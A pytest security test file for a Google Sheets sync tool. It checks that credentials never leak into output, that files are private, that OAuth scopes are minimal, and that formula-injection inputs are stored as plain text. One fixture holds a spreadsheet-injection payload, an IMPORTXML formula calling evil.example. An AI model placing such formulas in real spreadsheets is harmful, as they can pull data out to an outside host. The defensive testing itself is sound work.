"""Security (issue 6, section 4): secrets never leak; files are private; scopes are minimal;
nothing we write into the Google Sheet is a formula."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from impactsheets.cli import main
from impactsheets.config import SyncConfig
from impactsheets.emulator import Emulator
from impactsheets.feedback import problems_title
from impactsheets.google import auth
from impactsheets.google.endpoint import EMULATOR_ENV
from impactsheets.pipeline import EXAMPLE_WORKBOOK
from impactsheets.resources import data_path
from impactsheets.sync import SyncOptions, run_sync

ROOT = Path(__file__).resolve().parent.parent
KEY = "1SecuritySheetKey0123456789abcdefgh"
SECRET_ID = "f00dfeedSECRETKEYID0123456789abcdef"
SECRET_REFRESH = "1//SECRET-REFRESH-TOKEN-do-not-print"
SECRET_CLIENT = "GOCSPX-SECRET-CLIENT-do-not-print"


def _rsa_pem() -> str:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                             serialization.NoEncryption()).decode()


@pytest.fixture(scope="module")
def pem() -> str:
    return _rsa_pem()


def secrets_in(text: str, pem: str) -> list[str]:
    body = "".join(pem.splitlines()[1:-1])
    needles = [SECRET_ID, SECRET_REFRESH, SECRET_CLIENT, body[:40], body[-40:],
               "PRIVATE KEY-----"]
    return [n for n in needles if n and n in text]


def key_files(folder: Path, pem: str) -> dict[str, Path]:
    sa = {"type": "service_account", "project_id": "p", "private_key_id": SECRET_ID,
          "private_key": pem, "client_email": "robot@p.iam.gserviceaccount.com",
          "client_id": "1", "token_uri": "http://127.0.0.1:9/token"}
    broken = {**sa, "private_key": pem.replace("MII", "XXX", 1) + SECRET_ID}
    user = {"type": "authorized_user", "client_id": "c.apps.googleusercontent.com",
            "client_secret": SECRET_CLIENT, "refresh_token": SECRET_REFRESH,
            "token_uri": "http://127.0.0.1:9/token"}
    files = {}
    for name, info in (("sa", sa), ("broken", broken), ("user", user)):
        path = folder / f"{name}.json"
        path.write_text(json.dumps(info), encoding="utf-8")
        os.chmod(path, 0o600)
        files[name] = path
    return files


def _sync_with_key(kind: str, tmp_path: Path, pem: str,
                   monkeypatch: pytest.MonkeyPatch) -> subprocess.CompletedProcess[str]:
    monkeypatch.delenv(EMULATOR_ENV, raising=False)
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    key = key_files(tmp_path, pem)[kind]
    config = tmp_path / "sync.yaml"
    config.write_text(f"source: {KEY}\noutput: {tmp_path / 'out'}\n"
                      f"credentials:\n  service_account_file: {key}\n", encoding="utf-8")
    done = subprocess.run([sys.executable, str(ROOT / "sync.py"), "--config", str(config),
                           "--json"], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONWARNINGS": "ignore"})
    return done


@pytest.mark.parametrize("kind", ["sa", "broken", "user"])
def test_key_material_never_appears_in_output(kind: str, tmp_path: Path, pem: str,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """A sync against Google with each kind of key file fails (no network: the token URI is
    unreachable); stdout, stderr and every file written hold no key material."""
    done = _sync_with_key(kind, tmp_path, pem, monkeypatch)
    output = done.stdout + done.stderr
    assert done.returncode != 0
    assert secrets_in(output, pem) == [], output
    for path in (tmp_path / "out").rglob("*") if (tmp_path / "out").exists() else []:
        if path.is_file():
            assert secrets_in(path.read_bytes().decode("utf-8", "replace"), pem) == [], path


@pytest.mark.parametrize("kind", [
    "sa",
    "broken",
    "user",
])
def test_credential_failures_are_one_clear_line(kind: str, tmp_path: Path, pem: str,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    done = _sync_with_key(kind, tmp_path, pem, monkeypatch)
    assert "Traceback" not in done.stderr, done.stderr[-600:]
    assert done.returncode in (4, 5)
    assert done.stderr.startswith("impactsheets: error: ") and done.stderr.count("\n") == 1


def test_emulator_run_with_a_key_configured_leaks_nothing(tmp_path: Path, pem: str,
                                                         emulator_env: Emulator,
                                                         caplog: pytest.LogCaptureFixture,
                                                         capsys: pytest.CaptureFixture) -> None:
    emulator_env.load_xlsx(data_path("examples", EXAMPLE_WORKBOOK), KEY)
    key = key_files(tmp_path, pem)["sa"]
    # Rendering in this process (jobs 1), not in workers whose output goes to /dev/null: the
    # logs and output checked below are every line the run printed.
    config = SyncConfig.from_dict({"source": KEY, "output": str(tmp_path / "out"), "jobs": 1,
                                   "credentials": {"service_account_file": str(key)}},
                                  "t", tmp_path)
    caplog.set_level("DEBUG")
    summary = run_sync(config, SyncOptions(jobs=1))
    assert summary.rendered == 13
    captured = capsys.readouterr()
    texts = [caplog.text, captured.out, captured.err, json.dumps(emulator_env.state(),
                                                                 default=str)]
    texts += [p.read_bytes().decode("utf-8", "replace")
              for p in (tmp_path / "out").rglob("*") if p.is_file() and p.suffix != ".pdf"]
    for text in texts:
        assert secrets_in(text, pem) == []


def test_nothing_written_to_the_google_sheet_is_a_formula(tmp_path: Path,
                                                          emulator_env: Emulator) -> None:
    sys.path.insert(0, str(ROOT / "tests" / "robustness"))
    from corpus_build import build_source

    source = build_source({"build": {"rows": [
        {"answers": {"contact_email": '=IMPORTXML("http://evil.example";"//a")',
                     "site_nom": "+Lieu", "site_code_postal": "@123"}},
        {"answers": {"site_nom": "-Autre", "capacite_nombre": "=1+1"}}]}}, tmp_path)
    emulator_env.load_xlsx(source, KEY)
    config = SyncConfig.from_dict({"source": KEY, "output": str(tmp_path / "out")}, "t", tmp_path)
    run_sync(config, SyncOptions())
    titles = emulator_env.sheet_titles(KEY)
    problems_sheet = problems_title(titles[0])
    assert problems_sheet in titles
    written: list[Any] = []
    with emulator_env.store.lock:
        for sheet in emulator_env.store.spreadsheets[KEY].sheets:
            for (row, col), cell in sheet.cells.items():
                value = cell.get("userEnteredValue") or {}
                if sheet.title == problems_sheet or col >= 52:
                    written.append(value)
                    assert "formulaValue" not in value, (sheet.title, row, col, value)
    assert any(str(v.get("stringValue", "")).startswith("=IMPORTXML") for v in written)


def test_files_are_created_user_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv(EMULATOR_ENV, raising=False)
    source = tmp_path / "r.xlsx"
    source.write_bytes(data_path("examples", EXAMPLE_WORKBOOK).read_bytes())
    result = CliRunner().invoke(main, ["init", "--config", "config/sync.yaml", "--source",
                                       str(source), "--output", "out",
                                       "--service-account-file", "key.json"])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE((tmp_path / "config/sync.yaml").stat().st_mode) == 0o600
    result = CliRunner().invoke(main, ["sync", "--config", "config/sync.yaml"])
    out = tmp_path / "config" / "out"
    for name in ("state.sqlite", "state.sqlite-wal", "state.sqlite-shm"):
        path = out / name
        if path.exists():
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, (name, oct(path.stat().st_mode))

    class FakeCreds:
        def to_json(self) -> str:
            return json.dumps({"refresh_token": SECRET_REFRESH})

    token = tmp_path / "xdg" / "impactsheets" / "token.json"
    auth._save_token(FakeCreds(), token)
    assert stat.S_IMODE(token.stat().st_mode) == 0o600
    assert stat.S_IMODE(token.parent.stat().st_mode) == 0o700
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert auth.token_path() == token


def test_scopes_are_least_privilege() -> None:
    assert auth.scopes_for(False) == ["https://www.googleapis.com/auth/spreadsheets"]
    assert auth.scopes_for(True) == ["https://www.googleapis.com/auth/spreadsheets",
                                     "https://www.googleapis.com/auth/drive.file"]
    for path in (ROOT / "impactsheets").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for broad in ('auth/drive"', "auth/drive'", "auth/drive.readonly", "cloud-platform"):
            assert broad not in text, (path, broad)
